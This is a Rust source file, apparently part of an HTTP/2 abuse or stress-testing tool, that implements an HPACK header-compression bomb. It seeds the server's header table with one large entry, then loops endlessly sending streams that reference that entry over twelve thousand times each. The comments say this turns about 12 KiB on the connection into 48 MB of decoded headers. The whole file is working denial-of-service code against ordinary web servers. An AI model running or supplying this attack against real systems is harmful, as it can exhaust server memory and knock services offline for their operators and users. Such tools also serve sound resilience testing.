//! Headers that are small on the connection and large behind HPACK: one entry of the table, named again and again.

use std::rc::Rc;

use crate::abuse::connection::{Connection, Ended};
use crate::abuse::frames::{self, END_HEADERS, END_STREAM};
use crate::abuse::headers::{NEWEST, call, remembered_filler};
use crate::abuse::target::Target;

/// Nearly all that the table takes.
const ENTRY: usize = 4000;
/// Of 12 KiB on the connection, 48 MB.
const TIMES: usize = 12 * 1024;

pub(super) async fn bomb(target: &Rc<Target>) -> Result<(), Ended> {
    let mut connection = Connection::open_http2(target, 1, &[]).await?;
    let mut stream = 1;
    let mut block = call(&target.spec.method, None);
    block.extend(remembered_filler(ENTRY));
    connection
        .send(&frames::headers(stream, END_HEADERS | END_STREAM, &block))
        .await?;
    let mut bomb = call(&target.spec.method, None);
    bomb.extend(std::iter::repeat_n(NEWEST, TIMES));
    loop {
        stream += 2;
        connection
            .send(&frames::headers(stream, END_HEADERS | END_STREAM, &bomb))
            .await?;
        target.throttle().await.map_err(|_| Ended)?;
    }
}
